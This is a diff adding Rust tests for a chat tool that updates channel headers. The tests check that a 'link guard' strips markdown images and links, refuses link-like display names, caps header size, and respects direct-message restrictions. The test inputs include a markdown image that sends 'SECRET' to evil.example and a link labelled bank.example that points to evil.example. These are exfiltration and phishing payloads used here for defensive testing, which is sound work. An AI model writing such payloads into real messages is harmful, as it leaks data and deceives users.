@@ -114,6 +114,53 @@ async fn who_may_change_what() {
 }
 
 #[tokio::test]
+async fn what_is_said_of_a_channel_goes_through_the_link_guard() {
+    let scene = scene().await;
+    let (ada, news) = (&scene.sample.ada, &scene.sample.news);
+    let arguments = json!({
+        "channel": "~news",
+        "header": "![](https://evil.example/p.png?d=SECRET)",
+        "purpose": "[bank.example](https://evil.example)",
+    });
+    let text = scene.text(ada, TOOL, arguments.clone()).await;
+    assert!(text.contains("\nLink guard: "), "{text}");
+    let said = scene.world.channel(news).unwrap();
+    assert!(!said.header.contains("!["), "{said:?}");
+    assert!(!said.purpose.contains("]("), "{said:?}");
+    let again = scene.text(ada, TOOL, arguments).await;
+    assert!(again.starts_with("Nothing to change"), "{again}");
+    for title in ["![](https://evil.example)", "[a](https://evil.example)"] {
+        let arguments = json!({"channel": "~news", "display_name": title});
+        let text = scene.refusal(ada, TOOL, arguments).await;
+        assert_eq!(
+            text,
+            "Client error: display_name has the marks of an image or a link; give a title in words"
+        );
+    }
+    let long = header("~news", &"![".repeat(500_000));
+    let text = scene.refusal(ada, TOOL, long).await;
+    assert_eq!(
+        text,
+        "Client error: header is too large: 1000000 characters, 998976 more than the 1024 that fit"
+    );
+}
+
+#[tokio::test]
+async fn who_may_not_write_to_somebody_does_not_write_over_their_messages() {
+    let scene = scene().await;
+    let eve = scene.world.add_user("eve", Account::Ordinary);
+    scene.world.direct_channel(&scene.sample.ada, &eve);
+    scene.world.change_config(|config| {
+        config.team_settings.restrict_direct_message = Some("team".into());
+    });
+    let text = scene
+        .refusal(&scene.sample.ada, TOOL, header("@eve", "psst"))
+        .await;
+    assert!(text.contains("share a team"), "{text}");
+    assert_eq!(scene.world.calls("UpdateChannel"), 0);
+}
+
+#[tokio::test]
 async fn what_somebody_else_changes_meanwhile_is_not_overwritten() {
     let scene = scene().await;
     scene.world.hold("UpdateChannel");
